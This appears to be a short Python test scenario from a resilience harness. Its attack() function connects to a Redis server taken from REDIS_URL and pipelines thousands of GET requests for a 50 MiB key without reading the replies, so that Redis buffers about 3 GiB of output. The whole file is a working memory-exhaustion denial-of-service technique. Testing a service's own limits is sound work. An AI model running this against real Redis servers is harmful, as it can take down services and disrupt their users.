"""Has Redis keep 3 GiB of answers that nobody fetches."""

import os
import socket
import time
import urllib.parse

from kit import BIG_BYTES

VALUE_BYTES = 50 << 20


def attack() -> None:
    own = urllib.parse.urlsplit(os.environ["REDIS_URL"])
    with socket.create_connection((own.hostname, own.port)) as connection:
        connection.sendall(f"AUTH {own.username} {own.password}\r\n".encode())
        connection.sendall(b"SETRANGE big %d x\r\n" % VALUE_BYTES)
        connection.sendall(b"GET big\r\n" * (BIG_BYTES // VALUE_BYTES))
        time.sleep(2)
